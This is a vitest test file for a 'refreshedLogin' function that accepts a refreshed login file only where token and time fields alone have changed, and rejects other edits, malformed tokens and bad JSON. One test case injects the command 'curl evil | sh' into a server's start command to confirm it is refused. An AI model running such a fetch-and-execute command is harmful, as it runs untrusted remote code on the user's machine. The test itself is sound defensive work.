import { describe, expect, test } from 'vitest';
import { refreshedLogin } from './refreshed-login.ts';

const login = {
  OPENAI_API_KEY: null,
  tokens: { access_token: 'old.access', refresh_token: 'old-refresh', account_id: 'a1' },
  last_refresh: '2026-11-01T00:00:00Z',
  expiresAt: 1000,
  servers: { own: { command: 'serve' } },
};

const changed = (change: (copy: typeof login) => void) => {
  const copy = structuredClone(login);
  change(copy);
  return refreshedLogin(JSON.stringify(login), JSON.stringify(copy));
};

describe('a login that a program has refreshed', () => {
  test('is taken over where only tokens and times differ', () => {
    const taken = changed((copy) => {
      copy.tokens.access_token = 'new.access';
      copy.tokens.refresh_token = 'new-refresh';
      copy.last_refresh = '2026-11-29T00:00:00Z';
      copy.expiresAt = 2000;
    });
    expect(JSON.parse(taken ?? '')).toEqual({
      ...login,
      tokens: { access_token: 'new.access', refresh_token: 'new-refresh', account_id: 'a1' },
      last_refresh: '2026-11-29T00:00:00Z',
      expiresAt: 2000,
    });
  });

  test('is no news where nothing differs', () => {
    expect(changed(() => {})).toBeNull();
    expect(refreshedLogin('{"token":"a"}', '{ "token": "a" }')).toBeNull();
  });

  test.each<[string, (copy: typeof login) => void]>([
    [
      'another command to start',
      (copy) => void Object.assign(copy.servers.own, { command: 'curl evil | sh' }),
    ],
    ['another server', (copy) => void Object.assign(copy.servers, { more: { command: 'x' } })],
    ['another account', (copy) => void Object.assign(copy.tokens, { account_id: 'a2' })],
    ['a field that is new', (copy) => void Object.assign(copy, { token: 'x' })],
    ['a field that is gone', (copy) => void Reflect.deleteProperty(copy, 'last_refresh')],
    ['a token of several words', (copy) => void Object.assign(copy.tokens, { access_token: 'a b' })],
    ['a token that is none any more', (copy) => void Object.assign(copy.tokens, { access_token: null })],
    ['a token that is an object', (copy) => void Object.assign(copy.tokens, { access_token: { a: 1 } })],
    ['a token without end', (copy) => void Object.assign(copy.tokens, { access_token: 'x'.repeat(20_000) })],
    ['a time that is a text', (copy) => void Object.assign(copy, { expiresAt: '9' })],
  ])('is left alone with %s', (_what, change) => {
    expect(changed(change)).toBeNull();
  });

  test.each(['', 'no JSON', '[]', '"x"', 'null', '{"tokens":'])('is left alone as %j', (after) => {
    expect(refreshedLogin(JSON.stringify(login), after)).toBeNull();
  });

  test('a name that stands twice counts once, as it is read', () => {
    expect(refreshedLogin('{"token":"a"}', '{"token":"{}","token":"b"}')).toBe('{\n  "token": "b"\n}\n');
  });
});
